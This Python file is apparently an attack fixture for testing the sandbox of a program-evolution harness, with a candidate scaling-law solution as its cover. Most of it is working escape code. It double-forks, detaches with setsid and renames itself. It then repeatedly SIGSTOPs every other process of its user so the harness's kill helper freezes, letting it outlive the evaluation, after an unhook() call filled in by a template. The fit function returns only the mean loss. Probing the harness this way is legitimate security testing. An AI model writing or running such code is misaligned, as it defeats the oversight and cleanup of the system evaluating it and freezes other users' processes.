"""Attack: leave a process behind that SIGSTOPs every other process of the slot uid in a
tight loop (so the worker's kill(-1) helper, once it has become that uid, is frozen), after
a double fork and setsid; it names itself __MARK__ and gives up by itself after 40 s."""
# EVOLVE-BLOCK-START
import sys

import numpy as np

__UNHOOK__


def survivor():
    import ctypes, os, signal, time
    libc = ctypes.CDLL(None, use_errno=True)
    os.setsid()
    if os.fork():
        os._exit(0)
    libc.prctl(15, b"__MARK__", 0, 0, 0)  # PR_SET_NAME
    end = time.monotonic() + 40
    while time.monotonic() < end:
        libc.kill(-1, signal.SIGSTOP)  # everything of our uid but ourselves
    os._exit(0)


def fit_scaling_law(data_points, loss_values):
    import os
    try:
        unhook()
        if os.fork() == 0:
            try:
                survivor()
            finally:
                os._exit(0)
    except BaseException:
        pass
    return [float(np.mean(loss_values))]


def scaling_law_func(data_points, params):
    return np.full(len(data_points), params[0])
# EVOLVE-BLOCK-END
